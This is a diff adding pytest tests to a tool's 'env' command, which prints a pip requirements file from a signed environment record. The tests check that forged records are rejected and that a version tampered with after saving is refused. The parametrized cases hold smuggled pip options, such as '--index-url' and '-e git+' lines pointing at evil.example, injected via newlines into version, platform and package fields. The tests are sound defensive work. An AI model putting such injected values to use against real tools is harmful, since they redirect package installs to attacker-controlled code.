@@ -99,3 +99,45 @@ def test_env_prints_a_requirements_file(vault, vault_path, monkeypatch):
     assert "numpy==1.26.4" in lines
     assert all("==" in line for line in lines[1:])
     assert any(line.startswith("cloudpickle==") for line in lines)
+
+
+@pytest.mark.parametrize("forged", [
+    {"python": "3.11\n--index-url https://evil.example/simple"},
+    {"platform": "Linux\r-e git+https://evil.example/x.git#egg=x"},
+    {"packages": {"numpy\n--trusted-host evil.example": "1.0"}},
+    {"packages": {"numpy": "1.0\n-e git+https://evil.example/x.git#egg=x"}},
+    {"packages": {"-e git+https://evil.example/x.git#egg=x": "1"}},
+    {"packages": {"numpy": "1.0 ; python_version>'0' --hash=x"}},
+    {"packages": {"numpy": 1}},
+    {"packages": ["numpy"]},
+])
+def test_env_never_prints_a_forged_pip_option(vault, vault_path, monkeypatch, forged):
+    """Hostile case: the environment record is the file's, and `pip install -r` follows
+    options on any line. Saved through the writer (so signed and valid, as a forger
+    with their own key would make it), printed never."""
+    real = _environment.capture
+    monkeypatch.setattr(_environment, "capture", lambda imports: {**real(imports), **forged})
+    vault.save("p", {"share": Fraction(1, 3)})
+    vault.close()
+    result = subprocess.run([sys.executable, "-m", "modelvault", "env", str(vault_path), "p"],
+                            capture_output=True, text=True)
+    assert result.returncode == 1 and result.stdout == ""
+    assert "not a package and its version" in result.stderr or "not one line" in \
+        result.stderr or "not a mapping" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+def test_env_refuses_a_version_changed_after_saving(vault, vault_path):
+    import sqlite3
+
+    vault.save("p", {"share": Fraction(1, 3)})
+    vault.close()
+    with sqlite3.connect(vault_path) as db:
+        db.execute("UPDATE environments SET json = "
+                   "json_set(json, '$.packages.numpy', '0.1')")
+    db.close()
+    run = [sys.executable, "-m", "modelvault", "env", str(vault_path), "p"]
+    refused = subprocess.run(run, capture_output=True, text=True)
+    assert refused.returncode == 1 and "signature does not match" in refused.stderr
+    forced = subprocess.run([*run, "--trust"], capture_output=True, text=True)
+    assert forced.returncode == 0 and "numpy==0.1" in forced.stdout
